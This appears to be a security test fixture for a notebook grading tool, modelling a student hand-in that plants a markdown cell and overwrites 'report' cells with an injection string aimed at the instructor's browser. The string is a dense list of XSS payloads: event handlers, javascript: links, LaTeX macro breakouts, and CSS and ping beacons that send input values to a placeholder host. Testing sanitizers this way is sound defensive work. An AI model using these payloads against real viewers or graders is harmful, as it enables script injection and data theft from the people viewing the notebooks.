# Aims formulas, placeholders and styles at the instructor's browser.
# attacks: sabotage
# loses:
# %% hand-in
bad = (
    "$x$ <a title='\ue0000\ue001' href='#'>a</a> \ue0000\ue001 `\ue0001\ue001` "
    "$\\text{\ue0000\ue001 <img src=x onerror='REACHED()'>}$ "
    "$\\href{javascript:REACHED()}{x} \\class{REACHED}{x} \\style{background:url(//REACHED)}{x}$ "
    "$\\hspace{1px\" onload=\"REACHED()} \\rule{9px\"}{9px} \\color{url(//REACHED)}{x}$ "
    "$\\begin{array}{c\" onclick=\"REACHED()} x \\end{array}$ $\\mathREACHED<script>REACHED()</script>$\n\n"
    "<style>input[value^=a]{background:url(http://reached.example/REACHED)}</style>\n\n"
    "<p style='background:url(http://reached.example/REACHED)' class='REACHED'>x</p>\n\n"
    "<a href='#' ping='http://reached.example/REACHED' target=_blank rel=opener>x</a>\n\n"
    "<form action='http://reached.example/REACHED'><button formaction='javascript:REACHED()'>x</form>\n\n"
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9UkVBQ0hFRCgpPg==' srcset='http://reached.example/REACHED 1x'>\n\n"
    "<video poster='http://reached.example/REACHED'><source src='http://reached.example/REACHED'></video>\n\n"
    "<table><tr><td background='http://reached.example/REACHED' style='x:expression(REACHED())'>x</table>\n\n"
    "[x]: javascript:REACHED() 'y'\n\n[x] <javascript:REACHED()> <http://reached.example/'onclick='REACHED()>\n\n"
    "![x](data:image/png;base64,AAAA\"onerror=\"REACHED())\n\n&#x3c;script&#x3e;REACHED()&#x3c;/script&#x3e;"
)
text = {"cell_type": "markdown", "metadata": {}}
notebook["cells"].append(text | {"id": "own", "source": bad})
for cell in notebook["cells"]:
    if cell["id"].startswith("report"):
        cell["source"] = bad
